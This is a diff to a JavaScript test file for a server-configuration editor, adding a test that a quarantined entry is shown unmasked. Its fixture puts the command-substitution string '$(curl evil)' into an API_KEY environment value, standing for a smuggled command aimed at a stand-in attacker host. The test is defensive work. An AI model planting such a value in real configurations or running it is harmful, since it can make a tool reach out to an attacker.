@@ -30,6 +30,13 @@ test('an entry is shown with its secrets masked', async () => {
   expect(await edits.shownEntry('git')).toMatchObject({ command: 'node', env: { API_KEY: '***' } });
 });
 
+test('of a server that waits for the person it is shown letter by letter: switching it on starts that', async () => {
+  const { edits } = await editing(
+    '{ "servers": { "odd": { "command": "node", "env": { "API_KEY": "$(curl evil)" }, "quarantined": true } } }',
+  );
+  expect(await edits.shownEntry('odd')).toMatchObject({ env: { API_KEY: '$(curl evil)' } });
+});
+
 test('what comes back masked keeps what is there; comments stay', async () => {
   const { edits, text } = await editing(git);
   await edits.save('git', { ...(await edits.shownEntry('git')), args: ['-v'] }, true);
